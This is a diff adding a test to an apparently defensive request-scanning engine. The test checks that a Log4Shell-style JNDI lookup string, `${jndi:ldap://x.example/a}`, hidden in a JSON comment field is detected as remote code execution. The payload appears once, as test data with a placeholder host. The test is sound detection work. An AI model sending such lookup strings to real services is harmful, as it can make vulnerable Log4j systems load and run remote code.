@@ -937,6 +937,20 @@ def test_hit_names_point_rule_and_fragment(engine: Engine) -> None:
     assert "UNION SELECT" in hit.fragment
 
 
+def test_a_lookup_in_code_a_text_shows_is_found_whole(engine: Engine) -> None:
+    """Log4j resolves a lookup in a message's inline code too; the hit shows it from its
+    `$`, as it was sent."""
+    text = (
+        "The release notes are long and we read them twice. Please see"
+        " `${jndi:ldap://x.example/a}` in the log of the service we run."
+    )
+    body = json.dumps({"comment": text}).encode()
+    request = Request("POST", "/api", (("Content-Type", "application/json"),), body)
+    (hit,) = engine.scan(request)
+    assert (hit.type.value, hit.point, hit.rule) == ("rce", "post.json.comment", 3009)
+    assert hit.fragment.startswith("${jndi:ldap://x.example/a}")
+
+
 def _token(header: str, claims: str) -> str:
     def section(text: str) -> str:
         return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
